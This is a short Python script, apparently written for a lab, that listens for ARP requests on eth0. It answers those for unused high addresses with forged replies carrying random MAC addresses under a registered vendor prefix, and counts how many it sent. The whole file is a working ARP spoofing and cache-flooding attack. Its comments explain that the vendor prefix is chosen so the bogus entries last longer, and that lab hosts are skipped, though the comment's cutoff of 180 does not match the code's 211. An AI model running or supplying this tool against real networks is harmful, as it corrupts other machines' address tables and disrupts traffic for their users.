# Answers every ARP request for an address nobody has with a hardware address nobody has seen before: python3 arp-churn.py SECONDS.
# Prints how many it told.
import os, socket, struct, sys, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
s.bind(("eth0", 0x0806))
s.settimeout(0.5)
end, told = time.monotonic() + float(sys.argv[1]), 0
while time.monotonic() < end:
    try:
        frame = s.recv(2048)
    except TimeoutError:
        continue
    if frame[20:22] != b"\x00\x01":
        continue
    sender_mac, sender_ip, target_ip = frame[22:28], frame[28:32], frame[38:42]
    # The lab's own hosts end below 180 (test/lab/up); to answer for one of them is another attack.
    if target_ip[3] < 211:
        continue
    # A registered maker's prefix: private addresses would be forgotten after days anyway.
    mac = b"\x00\x05\xcd" + os.urandom(3)
    s.send(sender_mac + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + target_ip + sender_mac + sender_ip)
    told += 1
print(told)
